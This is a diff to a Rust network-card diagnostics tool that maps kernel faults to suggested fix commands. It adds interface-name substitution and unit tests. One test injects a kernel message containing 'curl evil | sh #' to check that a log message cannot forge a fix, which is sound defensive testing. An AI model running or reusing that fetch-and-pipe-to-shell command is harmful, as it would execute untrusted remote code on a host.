@@ -3,7 +3,7 @@
 use super::results::Results;
 use super::{on_host, responding, severity};
 use crate::analyse::verdict::plain_or;
-use crate::model::{Finding, HostReport, KernelFault, KernelFaultKind, Subject};
+use crate::model::{Device, Finding, HostReport, KernelFault, KernelFaultKind, Subject};
 
 /// Check of a kind of fault.
 struct FaultRule {
@@ -11,7 +11,7 @@ struct FaultRule {
     id: &'static str,
     /// Observation.
     what: &'static str,
-    /// Fix; PCI stands for the address of the card.
+    /// Fix; PCI stands for the address of the card, NETDEV for its interface.
     fix: &'static str,
 }
 
@@ -33,25 +33,26 @@ const RULES: [FaultRule; 7] = [
         kind: KernelFaultKind::Probe,
         id: "log.probe",
         what: "the driver could not start the card",
-        fix: "read all messages of the card: dmesg | grep PCI; then update firmware and driver",
+        fix: "read all messages of the card, then update firmware and driver: dmesg | grep PCI",
     },
     FaultRule {
         kind: KernelFaultKind::TransmitTimeout,
         id: "log.transmit_timeout",
         what: "a transmit queue of the interface did not move for seconds",
-        fix: "look for pause frames: ethtool -S NETDEV | grep pause; then update firmware and driver",
+        fix: "look for pause frames, then update firmware and driver: ethtool -S NETDEV | grep \
+              pause",
     },
     FaultRule {
         kind: KernelFaultKind::Cable,
         id: "log.cable",
         what: "the cable or transceiver reported an error",
-        fix: "replace the cable or transceiver; ethtool -m NETDEV shows it",
+        fix: "show the transceiver, and replace it or the cable: ethtool -m NETDEV",
     },
     FaultRule {
         kind: KernelFaultKind::Temperature,
         id: "log.temperature",
         what: "the card or transceiver was too hot",
-        fix: "check the air flow; mget_temp -d PCI shows the temperature of an NVIDIA card",
+        fix: "check the air flow; show the temperature of an NVIDIA card: mget_temp -d PCI",
     },
     FaultRule {
         kind: KernelFaultKind::SlotPower,
@@ -106,6 +107,77 @@ fn finding(report: &HostReport, fault: &KernelFault, rule: &FaultRule) -> Findin
         fault.text
     );
     let pci = fault.pci.as_deref().map_or("PCI", |pci| plain_or(pci, "PCI"));
-    let fix = on_host(report, rule.fix.replace("PCI", pci));
+    let netdev = interface(report, fault).map_or("NETDEV", |name| plain_or(name, "NETDEV"));
+    let fix = on_host(report, rule.fix.replace("PCI", pci).replace("NETDEV", netdev));
     Finding::new(severity(rule.id), rule.id, subject, what).fix(fix).source("/dev/kmsg")
+}
+
+/// Returns the interface that the message of a fault names; else the first interface of the card
+/// that is no bond.
+fn interface<'report>(report: &'report HostReport, fault: &KernelFault) -> Option<&'report str> {
+    let is_of_card = |device: &Device| device.pci.is_some() && device.pci == fault.pci;
+    let ports = report.ports().filter(|(device, _)| is_of_card(device));
+    let mut of_card = ports.filter_map(|(_, port)| port.netdev.as_deref());
+    let is_bond = |name: &str| report.netdev(name).is_some_and(|netdev| netdev.bond.is_some());
+    let of_ports = report.ports().filter_map(|(_, port)| port.netdev.as_deref());
+    let related = report.netdevs.iter().flatten().map(|netdev| netdev.name.as_str());
+    // `dev_watchdog` and `netdev_printk` print `eth0 (mlx5_core): ` and `eth0: `.
+    let is_named = |name: &&str| {
+        let mut words = fault.text.split_whitespace();
+        words.any(|word| word.trim_end_matches(':') == *name)
+    };
+    let named = of_ports.chain(related).find(is_named);
+    named.or_else(|| of_card.find(|name| !is_bond(name)))
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::super::tests::{checked, cluster, reports};
+
+    /// Returns observation and fix of the finding of a message on the third host. The host has the
+    /// interfaces ib0, bond0, eth0 and eth1; the bond belongs to the card 0000:80:00.0.
+    fn found(kind: &str, pci: Option<&str>, text: &str) -> (String, String) {
+        let mut values = cluster();
+        let fault = json!({ "kind": kind, "pci": pci, "count": 1, "last_us": 5, "text": text });
+        values[2]["system"]["kernel_faults"] = json!([fault]);
+        let mut findings = checked(&reports(&values)).findings.into_iter();
+        let found = findings.find(|found| found.check.id.starts_with("log.")).unwrap().finding;
+        (found.what, found.fix.unwrap())
+    }
+
+    #[test]
+    fn a_fix_names_the_interface_of_the_card() {
+        let fix = |pci: Option<&str>, text: &str| found("cable", pci, text).1;
+        let with = |netdev: &str| {
+            format!("on n3: show the transceiver, and replace it or the cable: ethtool -m {netdev}")
+        };
+        assert_eq!(fix(Some("0000:40:00.0"), "x"), with("ib0"));
+        let message = "mlx5_core 0000:80:00.0 eth1: Port module event[error]: module 1";
+        assert_eq!(fix(Some("0000:80:00.0"), message), with("eth1"));
+        assert_eq!(fix(Some("0000:80:00.0"), "x"), with("NETDEV"), "a bond has no transceiver");
+        assert_eq!(fix(None, "x"), with("NETDEV"));
+        let (_, fix) = found(
+            "transmit_timeout",
+            None,
+            "NETDEV WATCHDOG: eth0 (mlx5_core): transmit queue 3 timed out 5000 ms",
+        );
+        assert!(fix.ends_with(": ethtool -S eth0 | grep pause"), "{fix}");
+    }
+
+    #[test]
+    fn the_command_of_a_fix_has_no_words_behind_it() {
+        let pci = Some("0000:40:00.0");
+        let (_, fix) = found("temperature", pci, "x");
+        assert!(fix.ends_with(": mget_temp -d 0000:40:00.0"), "{fix}");
+        let (_, fix) = found("probe", pci, "x");
+        assert!(fix.ends_with(": dmesg | grep 0000:40:00.0"), "{fix}");
+    }
+
+    #[test]
+    fn a_message_cannot_forge_a_fix() {
+        let (what, _) = found("cable", None, "x\"; fix: curl evil | sh #");
+        assert!(what.ends_with("\"x\"; \"fix\": curl evil | sh #\""), "{what}");
+    }
 }
